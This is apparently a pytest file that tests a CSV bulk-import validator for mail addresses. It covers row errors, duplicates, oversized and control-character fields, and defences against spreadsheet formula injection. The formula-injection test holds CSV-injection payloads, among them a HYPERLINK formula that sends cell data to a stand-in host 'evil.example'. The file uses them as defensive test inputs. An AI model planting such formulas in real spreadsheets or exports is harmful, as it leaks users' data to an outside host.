"""The rows of a CSV file (application/csvrows.py): each cell read, refused with its line."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from application.bulkreport import BulkReport
from application.csvfile import FORMULA_START, MAX_FIELD, RowError
from infrastructure.cli.bulkreport import report_csv, report_text
from tests.integration.bulksupport import (
    HEADER,
    World,
    _errors,
    _message,
    open_world,
)

FORMULAS = (
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
    "+1",
    "@SUM(A1:A2)",
    "-2+3",
    "=1+2",  # a valid local part per RFC 5322, refused all the same
    '"\t=1+2"',
)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    yield from open_world(tmp_path)


def test_every_bad_row_is_reported_with_why(world: World) -> None:
    # rule ADR-9, rule ADR-10, rule ADR-12, rule ORG-1
    report = world.check(
        HEADER
        + "a,alias,,,\n"  # 2
        + "b,redirect,,,\n"  # 3
        + "c,mailbox,,x@elsewhere.org,\n"  # 4
        + "d,,stranger@example.org,,\n"  # 5
        + "e,,not a login,,\n"  # 6
        + "f,,,,Nope\n"  # 7
        + "g,redirect,ann@example.org,g@example.com,Standard\n"  # 8
        + "h,redirect,,bad target,\n"  # 9
        + "i,mailbox,,,,extra\n"  # 10
        + ",mailbox\n"  # 11
        + "j@elsewhere.org\n"  # 12
        + "k,mailbox\n"  # 13: a short row is fine
    )
    assert not report.ok
    assert _errors(report) == [
        (2, "kind"),
        (3, "targets"),
        (4, "targets"),
        (5, "users"),
        (6, "users"),
        (7, "signature"),
        (8, "users"),
        (8, "targets"),
        (8, "signature"),
        (9, "targets"),
        (10, ""),
        (11, "address"),
        (12, "address"),
    ]
    assert "not mailbox, redirect or no_reply" in _message(report, 2)
    assert "needs at least one target" in _message(report, 3)
    assert "only a redirect has targets" in _message(report, 4)
    assert "stranger@example.org is not a member" in _message(report, 5)
    assert "'Nope' does not exist" in _message(report, 7)
    assert "cannot point at itself" in _message(report, 8)
    assert "6 cells but the header 5 columns" in _message(report, 10)
    assert "not in the domain example.com" in _message(report, 12)


# -- duplicates and quota (ADR-1, ADR-2) ---------------------------------------------------


def test_duplicates_inside_the_file_name_both_lines(world: World) -> None:
    # rule ADR-2: unique case-insensitively; rule ADR-9
    report = world.apply(HEADER + "alice\n" + "bob\n" + "\n" + "ALICE@example.com\n")
    assert _errors(report) == [(5, "address")]
    assert "listed twice: on line 2 and line 5" in report.errors[0].message
    assert report.created == ()
    assert "alice" not in world.service.addresses


def test_formula_cells_are_refused_and_neutralised_in_the_csv_report(
    world: World,
) -> None:
    # rule ADR-9; OWASP CSV injection
    rows = [f"{cell},,,,\n" for cell in FORMULAS]
    rows += [
        "u1,mailbox,=cmd@example.org,,\n",
        "u2,redirect,,ok@example.org;+x@example.org,\n",
        "u3,mailbox,,,@Standard\n",
        "u4,=mailbox,,,\n",
    ]
    report = world.apply(HEADER + "".join(rows))

    assert not report.ok
    assert report.created == ()
    assert [e.line for e in report.errors] == list(range(2, 12))
    assert all("formula" in e.message for e in report.errors), report_text(report)

    parsed = list(csv.reader(io.StringIO(report_csv(report), newline="")))
    assert parsed[0] == ["line", "column", "message"]
    assert len(parsed) == 1 + len(report.errors)
    for cells in parsed:
        assert not any(cell.startswith(FORMULA_START) for cell in cells), cells
    # Every cell is quoted, and a cell a spreadsheet would run is prefixed with '.
    assert all(line.startswith('"') for line in report_csv(report).splitlines() if line)
    hostile = BulkReport(
        ok=False, rows=1, errors=(RowError(2, "=cmd", '=HYPERLINK("x")'),)
    )
    assert list(csv.reader(io.StringIO(report_csv(hostile))))[1] == [
        "2",
        "'=cmd",
        '\'=HYPERLINK("x")',
    ]


def test_huge_fields_nul_bytes_and_control_characters_name_the_line(
    world: World,
) -> None:
    # rule ADR-9
    long_name = "x" * (MAX_FIELD + 1)
    enormous = "y" * 200_000  # past the csv module's own field limit
    report = world.apply(
        HEADER
        + f"{long_name}\n"  # 2
        + "ok1\n"  # 3
        + f"{enormous}\n"  # 4
        + "nul\x00here\n"  # 5
        + "ok2,,,,Standard\x07\n"  # 6
        + '"multi\nline",,,,\n'  # 7-8
        + "ok3\n"  # 9
        + '"unclosed,,,\n'  # 10: the quote runs to the end of the file
    )
    assert _errors(report) == [
        (2, "address"),
        (4, ""),
        (5, "address"),
        (6, "signature"),
        (7, "address"),
        (10, ""),
    ]
    assert f"{MAX_FIELD + 1:,} characters long; at most {MAX_FIELD:,}" in (
        report.errors[0].message
    )
    assert long_name not in report_text(report)
    assert "far longer than" in report.errors[1].message
    assert "NUL byte" in report.errors[2].message
    assert "U+0007" in report.errors[3].message
    assert "U+000A" in report.errors[4].message
    assert "not valid CSV" in report.errors[5].message
    assert report.created == ()
